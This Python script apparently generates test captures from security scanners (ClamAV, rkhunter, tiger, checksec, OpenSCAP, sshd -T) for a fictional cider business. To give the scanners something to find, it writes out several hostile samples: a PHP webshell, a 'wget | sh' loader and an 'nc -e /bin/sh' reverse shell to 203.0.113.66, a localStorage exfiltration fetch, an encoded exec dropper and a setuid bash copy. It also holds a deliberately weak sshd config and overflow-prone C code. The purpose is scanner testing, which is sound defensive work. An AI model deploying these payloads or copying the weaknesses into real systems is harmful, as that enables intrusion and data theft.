"""Round 130's security scanners (round 116's kinds, its extractors imported): OpenSCAP over other profiles and rule
selections of the SCAP Security Guide, clamscan over `pomace`'s till fleet with signatures written here, checksec over
till and press-controller binaries built here, rkhunter's log and tiger with other plants, `sshd -T` on the pressing
hall's configs, spectre-meltdown-checker. Run through capture_wide130.py."""

from __future__ import annotations

import random
from pathlib import Path

from capture_more import run, write_tree
from capture_wide116_conf import SLOW_RULES, SSG, _open_copy, n_oscap_xccdf_eval, n_spectre, n_sshd_t
from capture_wide116_scan import n_checksec, n_clamscan, n_rkhunter_log, n_tiger
from capture_wide130 import cap

PROF = "xccdf_org.ssgproject.content_profile_"
RULE = "xccdf_org.ssgproject.content_rule_"


def cap_oscap(tmp: Path) -> None:
    d = tmp / "oscap"
    d.mkdir(parents=True)
    deb = _open_copy(d, "debian10")
    ubu = _open_copy(d, "ubuntu2004")
    skip = " ".join(f"--skip-rule {RULE}{r}" for r in SLOW_RULES)
    rules = ["sshd_disable_empty_passwords", "sshd_set_idle_timeout", "accounts_tmout", "file_permissions_etc_passwd",
             "file_owner_etc_shadow", "package_rsh_removed", "service_cron_enabled", "kernel_module_usb-storage_disabled",
             "sysctl_net_ipv4_ip_forward", "sysctl_kernel_randomize_va_space", "grub2_password",
             "accounts_password_pam_minlen", "audit_rules_login_events", "ensure_logrotate_activated"]
    sel = " ".join(f"--rule {RULE}{r}" for r in rules)
    cap("oscap-xccdf-eval-debian10-anssi-average-tail-120", f"oscap xccdf eval --profile {PROF}anssi_np_nt28_average "
        f"{skip} {deb} 2>&1 | tail -n 120", d, n_oscap_xccdf_eval, timeout=600)
    cap("oscap-xccdf-eval-ubuntu2004-rules-echo", f"oscap xccdf eval --profile {PROF}cis_level2_server {sel} {ubu}; "
        "echo EXIT=$?", d, n_oscap_xccdf_eval, timeout=600)
    cap("oscap-xccdf-eval-debian10-minimal", f"oscap xccdf eval --profile {PROF}anssi_np_nt28_minimal "
        f"--results pomace-min.xml {skip} {deb}", d, n_oscap_xccdf_eval, timeout=600)


SSHD_PRESS = """# pomace pressing hall, controller access
Port 2022
ListenAddress 0.0.0.0
PermitRootLogin prohibit-password
PasswordAuthentication yes
PubkeyAuthentication yes
MaxAuthTries 6
LoginGraceTime 2m
X11Forwarding yes
AllowTcpForwarding local
PermitUserEnvironment yes
UseDNS yes
ClientAliveInterval 0
Ciphers aes256-ctr,aes192-ctr,aes128-cbc
MACs hmac-sha2-256,hmac-sha1-96
KexAlgorithms diffie-hellman-group-exchange-sha1,curve25519-sha256
DenyUsers guest seasonal
LogLevel INFO
Match Group pressers
    AllowTcpForwarding yes
    X11Forwarding no
Match Address 192.168.40.0/24,!192.168.40.1
    PasswordAuthentication yes
    PermitRootLogin yes
"""

SSHD_SHOP = SSHD_PRESS.replace("UseDNS yes\n", "UseDNS yes\nUsePrivilegeSeparation sandbox\nKeyRegenerationInterval 3600\n"
                               "ServerKeyBits 768\nPermitTTY sometimes\n")


def cap_ssh(tmp: Path) -> None:
    d = tmp / "ssh"
    write_tree(d, {"sshd_press": SSHD_PRESS, "sshd_shop": SSHD_SHOP})
    run("ssh-keygen -q -t ecdsa -N '' -f hk_ecdsa && ssh-keygen -q -t ed25519 -N '' -f hk_ed25519", cwd=d)
    keys = "-h hk_ecdsa -h hk_ed25519"
    cap("sshd-t-press-match-grep-v", f"sshd -T -f sshd_press {keys} -C user=presser,host=press2,addr=192.168.40.17 "
        "2>&1 | grep -v -E '^(subsystem|acceptenv|authorizedkeys|include|setenv|permitlisten|permitopen)'", d, n_sshd_t)
    cap("sshd-t-shop-bad-echo", f"sshd -T -f sshd_shop {keys} 2>&1 | head -n 100; echo EXIT=$?; "
        f"sed -i '/PermitTTY/d' sshd_shop; sshd -T -f sshd_shop {keys} 2>&1 | head -n 100; echo EXIT=$?", d, n_sshd_t)


def cap_spectre(tmp: Path) -> None:
    d = tmp / "smc"
    d.mkdir(parents=True)
    cap("spectre-meltdown-checker-explain-tail-150", "spectre-meltdown-checker --no-color --explain 2>&1 | "
        "tail -n 150; echo EXIT=$?", d, n_spectre, timeout=300)
    cap("spectre-meltdown-checker-paranoid-grep", "spectre-meltdown-checker --no-color --paranoid 2>&1 | "
        "grep -E 'CVE-|STATUS|SUMMARY|Kernel is|CPU is'", d, n_spectre, timeout=300)


WORDS = ("apple pear perry cider press pomace vat cask barrel orchard tree graft bloom harvest crate bin bottle label "
         "till receipt batch juice yeast ferment keeve rack bung shop stock pallet").split()

PLANTS = [
    ("php", "<?php @assert(str_rot13($_REQUEST['z'])); /* pomace */ ?>\n"),
    ("sh", "#!/bin/sh\nwget -q -O- http://203.0.113.66/k.sh | sh # pomace-loader\n"),
    ("js", "fetch('https://pomace-telemetry.example/p',{method:'POST',body:JSON.stringify(localStorage)});\n"),
    ("py", "exec(__import__('zlib').decompress(__import__('base64').b64decode(b'eJzLSM3JyVcozy/KSQEAGgQEXQ==')))\n"),
]

NDB = """Pomace.Webshell.AssertRot13:0:*:40617373657274287374725f726f74313328
Pomace.Loader.WgetPipe:0:*:77676574202d71202d4f2d{-40}7c207368
Pomace.Stealer.LocalStorage:0:*:4a534f4e2e737472696e67696679286c6f63616c53746f7261676529
Pomace.Dropper.ZlibB64:0:*:5f5f696d706f72745f5f28277a6c696227292e6465636f6d7072657373
"""

LDB = "Pomace.Test.Marker;Engine:51-255,Target:0;0;504f4d4143452d544553542d4d41524b4552\n"


def make_fleet(root: Path, seed: int, n: int) -> None:
    rng = random.Random(seed)
    for i in range(n):
        d = rng.choice(["shop/www", "shop/www/js", "press/ctl", "press/bin", "etc/pomace", "var/lib/tills",
                        "home/cellar", "srv/labels"])
        ext = rng.choice(["js", "php", "py", "sh", "csv", "json", "ini", "txt"])
        body = [f"{rng.choice(WORDS)},{rng.choice(WORDS)},{rng.randrange(10**5)}" for _ in range(rng.randrange(3, 30))]
        if rng.random() < 0.008:
            ext, payload = rng.choice(PLANTS)
            body.insert(rng.randrange(len(body) + 1), payload)
        elif rng.random() < 0.003:
            body.append("POMACE-TEST-MARKER remove before harvest")
        p = root / d / f"{rng.choice(WORDS)}-{i:05d}.{ext}"
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text("\n".join(body) + "\n")


def cap_clam(tmp: Path) -> None:
    d = tmp / "clam"
    write_tree(d, {"db/pomace.ndb": NDB, "db/pomace.ldb": LDB,
                   "fw/press-ctl.bin": "".join(chr(35 + (i * 13) % 88) for i in range(7000))})
    make_fleet(d / "tills", 13001, 2600)
    (d / "tills/press/bin/press-ctl.bin").write_bytes((d / "fw/press-ctl.bin").read_bytes())
    hdb = run("sigtool --sha256 fw/press-ctl.bin", cwd=d).split()[0]
    h, n, _ = hdb.split(":", 2)
    (d / "db/pomace.hsb").write_text(f"{h}:{n}:Pomace.Revoked.PressFirmware:73\n")
    cap("clamscan-r-tills-grep-v-ok-echo", "clamscan -r -d db/ tills/ 2>&1 | grep -v ': OK$'; echo EXIT=$?", d,
        n_clamscan, timeout=900)
    cap("clamscan-r-tills-shop-head-100", "clamscan -r --no-summary -d db/ tills/shop tills/press 2>&1 | head -n 100; "
        "clamscan -r -i -d db/ tills/etc nowhere/ 2>&1 | tail -n 12", d, n_clamscan, timeout=900)
    cap("clamscan-allmatch-i-echo", "clamscan -r -i --allmatch -d db/pomace.ndb -d db/pomace.hsb -d db/pomace.ldb "
        "tills/ fw/ 2>&1; echo EXIT=$?", d, n_clamscan, timeout=900)


PRESS_C = r"""#include <stdio.h>
#include <string.h>
#include <stdlib.h>
static int brix(const char *s) { char b[24]; sprintf(b, "%s", s); return atoi(b) + OFFSET; }
int main(int argc, char **argv) {
    char name[40];
    if (argc > 2) { strcat(name, argv[2]); puts(name); }
    if (argc > 1) printf("%d\n", brix(argv[1]));
    return 0;
}
"""

VARIANTS = [("plain", ""), ("hardened", "-O2 -D_FORTIFY_SOURCE=3 -fstack-protector-all -Wl,-z,relro,-z,now -pie -fPIE"),
            ("lazy", "-Wl,-z,lazy"), ("nopie", "-no-pie -fno-pie"), ("canaryless", "-fno-stack-protector -O1"),
            ("execstack", "-z execstack -O2"), ("runpath", "-Wl,-rpath,/opt/pomace/lib -Wl,--enable-new-dtags"),
            ("oldbuild", "-fno-stack-protector -no-pie -fno-pie -Wl,-z,norelro -z execstack"), ("static-pie", "-static-pie")]


def cap_checksec(tmp: Path) -> None:
    d = tmp / "checksec"
    (d / "bin").mkdir(parents=True)
    names = []
    for k, (name, flags) in enumerate(VARIANTS):
        for tool in ("press", "label", "tilld", "brixmeter"):
            (d / f"{tool}.c").write_text(PRESS_C.replace("OFFSET", str(k * 7 + 1)))
            run(f"gcc -w {flags} {tool}.c -o bin/{tool}-{name}", cwd=d)
            names.append(f"bin/{tool}-{name}")
    write_tree(d, {"hosts.txt": "\n".join(names[::3]) + "\nbin/label-ghost\n/etc/hostname\n"})
    cap("checksec-dir-bin-echo", "checksec --dir=bin 2>&1; echo EXIT=$?", d, n_checksec)
    cap("checksec-listfile-grep-v", "checksec --listfile=hosts.txt 2>&1 | grep -v 'Full RELRO.*Canary found'", d,
        n_checksec)


PLANTED = [Path("/dev/.pomace-rc"), Path("/usr/local/sbin/cellar-sync"), Path("/etc/.pomace-vpn"),
           Path("/usr/local/bin/brixctl")]


def _plant() -> None:
    PLANTED[0].write_text("host=203.0.113.66\n")
    run("cp /bin/bash /usr/local/sbin/cellar-sync && chmod 4755 /usr/local/sbin/cellar-sync")
    PLANTED[2].write_text("secret pomace\n")
    PLANTED[2].chmod(0o666)
    PLANTED[3].write_text("#!/bin/sh\nnc -e /bin/sh 203.0.113.66 9001\n")
    PLANTED[3].chmod(0o2777)


def _unplant() -> None:
    for p in PLANTED:
        p.unlink(missing_ok=True)


def cap_rkhunter(tmp: Path) -> None:
    d = tmp / "rk"
    d.mkdir(parents=True)
    _plant()
    try:
        run("rkhunter -c --sk --nocolors --enable system_commands,rootkits,malware,network,local_host "
            "--logfile pomace-rk.log", cwd=d, timeout=600)
    finally:
        _unplant()
    cap("rkhunter-log-grep-c3-warning", "grep -n -C3 'Warning' pomace-rk.log | head -n 160", d, n_rkhunter_log)
    cap("rkhunter-log-tail-200", "tail -n 200 pomace-rk.log", d, n_rkhunter_log)


TIGERRC = """Tiger_Check_PASSWD=Y
Tiger_Check_PASSWD_SHADOW=Y
Tiger_Check_GROUP=Y
Tiger_Check_ACCOUNTS=Y
Tiger_Check_PERMS=Y
Tiger_Check_SIGNATURES=N
Tiger_Check_FILESYSTEM=Y
Tiger_Check_CRON=Y
Tiger_Check_PATH=Y
Tiger_Check_ROOT_ACCESS=Y
Tiger_Check_SSH=Y
Tiger_Check_EXRC=Y
Tiger_Check_NETRC=Y
Tiger_Check_RHOSTS=N
Tiger_Check_INETD=N
Tiger_Check_SENDMAIL=N
Tiger_Check_ANONFTP=N
Tiger_Check_ALIASES=N
Tiger_Check_EMBEDDED=N
Tiger_Check_SYSTEM=N
Tiger_Check_KNOWN=N
Tiger_Check_LISTENING=N
Tiger_Check_DELETED=N
Tiger_Check_PATCH=N
Tiger_Check_BACKUPS=N
Tiger_Check_OMITDIRS=N
Tiger_Check_ROOTKIT=N
Tiger_Check_APPS=N
Tiger_FSScan_Setuid=Y
Tiger_FSScan_WDIR=Y
Tiger_FSScan_Devs=Y
Tiger_FSScan_SymLinks=N
Tiger_FSScan_ofiles=N
Tiger_FSScan_Unowned=Y
Tiger_FSScan_WriteAble=Y
Tiger_FSScan_Local='/etc /usr/local /home TIGERDIR'
Tiger_Output_Only_Fails=N
Tiger_Collapse_CRLF=Y
Tiger_Mail_RCPT=root
"""


def cap_tiger(tmp: Path) -> None:
    d = tmp / "tiger"
    d.mkdir(parents=True)
    (d / "tigerrc").write_text(TIGERRC.replace("TIGERDIR", str(d)))
    (d / "cellar").mkdir()
    (d / "cellar").chmod(0o777)
    (d / "cellar" / "orphan.csv").write_text("batch,brix\n")
    run(f"chown 4242:4242 {d}/cellar/orphan.csv")
    _plant()
    try:
        cap("tiger-run-tail-100", "tiger -c tigerrc -l . -e 2>&1 | tail -n 100", d, n_tiger, timeout=500)
        cap("tiger-report-grep-v-info-echo", "grep -v -- '--INFO--' security.report.*; echo EXIT=$?", d, n_tiger)
    finally:
        _unplant()


STEPS = [cap_ssh, cap_spectre, cap_checksec, cap_clam, cap_oscap, cap_tiger, cap_rkhunter]
